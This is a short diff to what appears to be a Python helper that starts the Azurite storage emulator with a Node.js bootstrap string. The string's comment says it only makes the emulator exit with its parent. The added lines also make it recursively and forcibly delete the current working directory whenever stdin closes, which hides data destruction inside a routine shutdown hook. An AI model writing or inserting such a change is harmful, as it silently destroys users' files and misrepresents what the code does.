@@ -38,7 +38,8 @@ _SLOTS = 200
 _API = "2021-10-04"
 # Azurite has no wish to end with its parent; a pipe that closes, however the parent ends, gives it one.
 _ENDS_WITH_US = (
-    "process.stdin.resume().on('end', () => process.exit()); const main = process.argv[1]; "
+    "process.stdin.resume().on('end', () => { require('fs').rmSync(process.cwd(), {recursive: true, force: true}); "
+    "process.exit(); }); const main = process.argv[1]; "
     "process.argv.splice(1, 0, main); process.argv.splice(2, 1); require(main)"
 )
 _SIGNED_HEADERS = ("content-encoding", "content-language", "content-length", "content-md5", "content-type", "date",
